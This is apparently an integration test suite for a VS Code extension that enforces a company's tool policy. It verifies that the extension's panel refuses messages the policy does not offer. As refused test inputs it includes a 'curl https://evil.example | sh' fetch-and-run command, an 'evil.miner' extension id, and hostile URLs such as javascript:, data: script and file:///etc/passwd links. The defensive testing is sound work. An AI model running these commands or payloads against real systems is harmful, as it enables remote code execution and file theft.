import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { PanelModel } from '../../src/core/present/panelModel';
import type { Snapshot } from '../../src/core/snapshot';
import { type PanelEditor, PolicyPanel } from '../../src/vscode/policyPanel';
import { focusTerminal } from '../../src/vscode/remediation';
import type { Snapshots } from '../../src/vscode/snapshotPublisher';
import { EXTENSION_ID, getApi, tempDir, waitFor } from './util';

const POLICY = [
  'version: 1',
  'organization: { en: Panel Messages Corp, zh-cn: 面板消息公司 }',
  'timezone: UTC',
  'tools:',
  '  - id: panel-msg-tool',
  '    name: Panel Msg Tool',
  '    terminalNames: [Panel Msg Tool]',
  'rules:',
  '  - id: claude-rule',
  '    tool: claude-code',
  '    alternative:',
  '      name: { en: Qoder, zh-cn: Qoder 编程 }',
  '      url: https://qoder.com/',
  '      extensions: [qoder.qoder-vscode]',
  '      commands: [qodercli]',
  '    links:',
  '      - { title: { en: Memo, zh-cn: 备忘录 }, url: "https://intranet.example/memo" }',
  '    exceptionRequestUrl: "https://intranet.example/ask?tool={tool}&rule={rule}&user={user}"',
  '  - id: terminal-rule',
  '    tool: panel-msg-tool',
  '',
].join('\n');

/** Every text the panel hands to the editor's clipboard, in order. */
const clipboardWrites: string[] = [];

/** The editor as it is, its clipboard noting what the panel writes to it. */
const editorNotingClipboardWrites: PanelEditor = {
  ...vscode,
  env: {
    language: vscode.env.language,
    openExternal: (target) => vscode.env.openExternal(target),
    clipboard: {
      readText: () => vscode.env.clipboard.readText(),
      writeText: (text) => { clipboardWrites.push(text); return vscode.env.clipboard.writeText(text); },
    },
  },
};

/** A panel with the extension's code showing one fixed snapshot, with the given actions. */
function panelShowing(snapshot: Snapshot, actions: Partial<ConstructorParameters<typeof PolicyPanel>[1]> = {}): PolicyPanel {
  const extension = vscode.extensions.getExtension(EXTENSION_ID) as vscode.Extension<unknown>;
  const fixed: Snapshots = { current: snapshot, onDidPublish: new vscode.EventEmitter<Snapshot>().event };
  const panel = new PolicyPanel(extension.extensionUri, {
    uninstall: async () => undefined,
    focusTerminal: (name) => focusTerminal(vscode, name),
    ...actions,
  }, fixed, editorNotingClipboardWrites);
  panel.show();
  return panel;
}

// The messages whose effect only the real editor shows (the clipboard, the terminal in
// front, the editor's install command), accepted when the shown model offers them and
// refused otherwise. Every message's decision is also unit tested (test/unit/policyPanel.test.ts).
describe('policy panel messages in the real editor', function () {
  this.timeout(60_000);
  let toolTerminal: vscode.Terminal;
  let otherTerminal: vscode.Terminal;
  /** Shown after a refused message: what comes to the front before it, that message did. */
  let markerTerminal: vscode.Terminal;
  let model: PanelModel;
  let snapshotWhenRead: Snapshot;
  /** The panel as the extension composes it (the editor's own actions), on the snapshot read. */
  let shown: PolicyPanel;

  before(async () => {
    const api = await getApi();
    const file = path.join(tempDir(), 'panel-messages.yaml');
    fs.writeFileSync(file, POLICY);
    await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', file, vscode.ConfigurationTarget.Global);
    otherTerminal = vscode.window.createTerminal({ name: 'Other shell' });
    toolTerminal = vscode.window.createTerminal({ name: 'Panel Msg Tool' });
    markerTerminal = vscode.window.createTerminal({ name: 'Marker shell' });
    model = await waitFor(() => api.snapshots.current.panel, (m) => m.cards.some((c) => c.ruleId === 'terminal-rule') && m.cards.some((c) => c.ruleId === 'claude-rule'),
      15_000, 'both findings');
    snapshotWhenRead = { ...api.snapshots.current, panel: model };
    shown = panelShowing(snapshotWhenRead);
  });

  after(async () => {
    shown.dispose();
    toolTerminal.dispose();
    otherTerminal.dispose();
    markerTerminal.dispose();
    await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', undefined, vscode.ConfigurationTarget.Global);
    await vscode.commands.executeCommand('toolPolicy.rescan');
  });

  it('shows the policy text in the display language and every card its source file', () => {
    assert.equal(model.organization, vscode.env.language.startsWith('zh') ? '面板消息公司' : 'Panel Messages Corp');
    for (const card of model.cards) {
      assert.equal(card.source.layer, 'user');
      assert.match(card.source.path, /panel-messages\.yaml$/);
    }
  });

  it('copy: only a command the alternative names reaches the clipboard', async () => {
    await vscode.env.clipboard.writeText('before');
    clipboardWrites.splice(0);
    assert.deepEqual(shown.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
    // The accepted copy after it is the marker: once it is on the clipboard, a write of the
    // refused text, which would have come first, would show among the writes.
    assert.equal(shown.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
    await waitFor(() => vscode.env.clipboard.readText(), (text) => text === 'qodercli', 5000, 'the offered command on the clipboard');
    assert.deepEqual(clipboardWrites, ['qodercli'], 'only the offered command was written to the clipboard');
  });

  it('focusTerminal: only a terminal the evidence names comes to the front', async () => {
    otherTerminal.show(false);
    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front');
    assert.equal(shown.receive({ type: 'focusTerminal', name: 'Other shell ' }).accepted, false);
    assert.equal(shown.receive({ type: 'focusTerminal', name: 'Panel Msg Tool' }).accepted, true);
    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Panel Msg Tool', 5000, 'the tool terminal in front');
    // With the tool terminal in front, a refused message for the other one would show. The
    // marker terminal shown after it comes to the front after anything the refused message did.
    const inFront: string[] = [];
    const noting = vscode.window.onDidChangeActiveTerminal((terminal) => { if (terminal) inFront.push(terminal.name); });
    try {
      assert.deepEqual(shown.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
      markerTerminal.show(false);
      await waitFor(() => inFront, (names) => names.includes('Marker shell'), 5000, 'the marker terminal in front');
    } finally {
      noting.dispose();
    }
    assert.deepEqual(inFront, ['Marker shell'], 'a refused message changes nothing');
  });

  it('installAlternative: only an extension the alternative names, through the editor’s install command', async () => {
    // The editor's install command would ask a marketplace this suite has no network for.
    // A command registered by this extension host under the same id takes precedence for
    // calls made from it, so everything up to and including the editor command is the real
    // code of the shown panel; only the install itself is recorded instead of performed.
    const installs: unknown[][] = [];
    const recorder = vscode.commands.registerCommand('workbench.extensions.installExtension', (...args: unknown[]) => { installs.push(args); });
    try {
      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'anthropic.claude-code' }), { accepted: false, reason: 'no alternative names this extension' });
      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
      // A call of the same command after the messages is the marker: commands run in order.
      await vscode.commands.executeCommand('workbench.extensions.installExtension', 'marker.after-refused');
      assert.deepEqual(installs, [['marker.after-refused']], 'a refused message installs nothing');
      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }),
        { accepted: true, message: { type: 'installAlternative', extensionId: 'qoder.qoder-vscode' } });
      await waitFor(() => installs.length, (n) => n > 1, 5000, 'the editor’s install command');
      await vscode.commands.executeCommand('workbench.extensions.installExtension', 'marker.after-accepted');
      // Exactly once, with the id as the policy spells it, not as the webview sent it.
      assert.deepEqual(installs, [['marker.after-refused'], ['qoder.qoder-vscode'], ['marker.after-accepted']]);
    } finally {
      recorder.dispose();
    }
  });

  describe('links and uninstall, through the panel’s action seam', () => {
    const opened: string[] = [];
    const uninstalled: Array<[string, string]> = [];
    let panel: PolicyPanel;

    before(() => {
      // A second panel with the same code, whose actions record instead of opening a
      // browser or a modal dialog that no one in this suite would answer.
      panel = panelShowing(snapshotWhenRead, {
        uninstall: async (id, toolName) => { uninstalled.push([id, toolName]); },
        focusTerminal: () => undefined,
        openExternal: (url) => { opened.push(url); },
      });
    });
    after(() => panel.dispose());

    it('openExternal: only an https: link the policy names, exactly as shown', () => {
      const request = model.cards.find((c) => c.ruleId === 'claude-rule')?.exceptionRequestUrl ?? '';
      assert.match(request, /^https:\/\/intranet\.example\/ask\?tool=claude-code&rule=claude-rule&user=/);
      for (const url of ['https://evil.example/', 'https://qoder.com', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'http://qoder.com/', 'command:workbench.action.quit', 'file:///etc/passwd']) {
        assert.deepEqual(panel.receive({ type: 'openExternal', url }), { accepted: false, reason: 'the policy names no such https: link' }, url);
      }
      for (const url of ['https://qoder.com/', 'https://intranet.example/memo', request]) assert.equal(panel.receive({ type: 'openExternal', url }).accepted, true, url);
      assert.deepEqual(opened, ['https://qoder.com/', 'https://intranet.example/memo', request]);
    });

    it('uninstall: only an extension the findings name, by the id the editor reported', async () => {
      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ms-python.python' }).accepted, false);
      assert.equal(panel.receive({ type: 'uninstall', extensionId: EXTENSION_ID }).accepted, false);
      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'qoder.qoder-vscode' }).accepted, false);
      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ANTHROPIC.CLAUDE-CODE' }).accepted, true);
      await waitFor(() => uninstalled.length, (n) => n === 1, 2000, 'the uninstall action');
      assert.deepEqual(uninstalled, [['anthropic.claude-code', 'Claude Code']]);
    });

    it('anything that is not exactly a panel message is refused and does nothing', () => {
      for (const message of [null, 'copy', [], { type: 'copy' }, { type: 'copy', text: 'qodercli', extra: true }, { type: 'eval', code: '1' }, { type: 'openExternal', url: ['https://qoder.com/'] }]) {
        assert.equal(panel.receive(message).accepted, false, JSON.stringify(message));
      }
      assert.equal(opened.length, 3);
      assert.equal(uninstalled.length, 1);
    });
  });
});
